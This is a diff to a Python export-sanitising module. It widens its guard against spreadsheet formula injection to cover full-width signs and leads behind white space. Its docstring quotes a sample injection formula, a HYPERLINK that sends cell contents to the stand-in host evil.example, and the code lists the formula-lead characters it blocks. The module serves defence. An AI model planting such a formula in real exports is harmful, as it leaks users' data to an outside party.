@@ -11,7 +11,9 @@ Two dangers, both handled here:
   ``-`` or ``@`` (or a tab or carriage return before one) is taken by openpyxl as a formula
   (``data_type 'f'``) and by Excel/WPS/LibreOffice as one when a CSV is opened, e.g.
   ``=HYPERLINK("http://evil.example/?x="&A1,"点击")``. Such a text is written as text with a
-  leading apostrophe (``'=HYPERLINK(…)``), so a clerk sees it and nothing runs.
+  leading apostrophe (``'=HYPERLINK(…)``), so a clerk sees it and nothing runs. The same holds
+  for such a lead behind white space or a line break (``" =1+1"``) and for the full-width
+  ``＝ ＋ － ＠``.
 - **Control characters**: XML 1.0 cannot hold most of U+0000–U+001F; openpyxl raises
   ``IllegalCharacterError`` and the whole download fails (forever, for an append-only audit
   trail). They are written visibly escaped (``\\x01``), so that what was typed stays readable.
@@ -32,6 +34,10 @@ from decimal import Decimal
 from typing import Any, TextIO
 
 FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
+# Also taken as a lead: the full-width signs a Chinese input method types (＝ ＋ － ＠), and any
+# lead behind white space or a line break (" =1+1": LibreOffice's CSV import with "trim spaces"
+# evaluates it; issue 16 review).
+_FULLWIDTH_LEADS = ("＝", "＋", "－", "＠")
 SAFE_PREFIX = "'"
 # What XML 1.0 (and so openpyxl) refuses, plus DEL and the non-characters U+FFFE/U+FFFF and lone
 # surrogates; tab, line feed and carriage return are kept inside a text (a line break in a
@@ -59,10 +65,14 @@ def log_text(value: Any) -> str:
     return _LOG_CONTROL_RE.sub(_escape, "" if value is None else str(value))
 
 
+def _has_formula_lead(text: str) -> bool:
+    return text.startswith(FORMULA_LEADS) or text.lstrip().startswith(FORMULA_LEADS + _FULLWIDTH_LEADS)
+
+
 def safe_text(value: Any) -> str:
     """A text that no spreadsheet program takes as a formula and that XML can hold."""
     text = visible_controls("" if value is None else str(value))
-    if text.startswith(FORMULA_LEADS):
+    if _has_formula_lead(text):
         return SAFE_PREFIX + text
     return text
 
@@ -92,7 +102,7 @@ def neutralise_workbook(workbook) -> None:
         for cells in sheet.iter_rows():
             for cell in cells:
                 value = cell.value
-                if isinstance(value, str) and (cell.data_type == "f" or value.startswith(FORMULA_LEADS)):
+                if isinstance(value, str) and (cell.data_type == "f" or _has_formula_lead(value)):
                     cell.value = safe_text(value)
                     cell.data_type = "s"
 
